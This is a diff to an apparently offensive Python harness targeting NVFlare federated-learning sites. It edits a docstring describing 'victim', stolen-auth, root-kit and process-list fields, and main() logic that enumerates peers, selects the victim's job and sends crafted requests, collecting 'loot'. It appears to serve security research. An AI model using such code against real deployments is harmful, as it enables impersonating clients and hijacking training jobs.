@@ -10,8 +10,8 @@ A plan is a JSON object; what comes out is one, too (`attackers.Plan` and `attac
     parent  the URL of a site's listener for its job processes, or none
     kit     the folder with a certificate and its key, for the root
     auth    the headers that NVFlare's server asks for: client name, token, signature
-    victim  the site whose door is wanted; its job is asked of the server
-    look    or, without a kit: what the command of the victim's job has in it, to be found in the process list
+    victim  the site whose door is wanted; with `auth`, its job is asked of the server
+    look    what the command of a site's job has in it: its listener, and job, are found in the process list
     become  the user and the group whose rights are left before anything is looked at or connected to, if not our own
     asks    [head, data in base64] of each ask
 """
@@ -139,11 +139,12 @@ def main() -> None:
             loot["user"] = os.getuid()
         target = ""
         if plan.get("look") and (found := looked_up(plan["look"])):
-            plan["parent"], target = found[0], f"{plan['victim']}.{found[1]}"
+            plan["parent"] = found[0]
+            target = f"{plan['victim']}.{found[1]}"
         if plan.get("root") or plan.get("parent"):
             cell = cell_of(plan)
             loot["connected"] = connected(cell)
-            if plan.get("root"):
+            if plan.get("auth"):
                 loot["peers"] = peers(cell, "server")
                 target = next((peer for peer in loot["peers"] if peer.startswith(f"{plan['victim']}.")), "")
             for head, data in plan["asks"] if target else ():
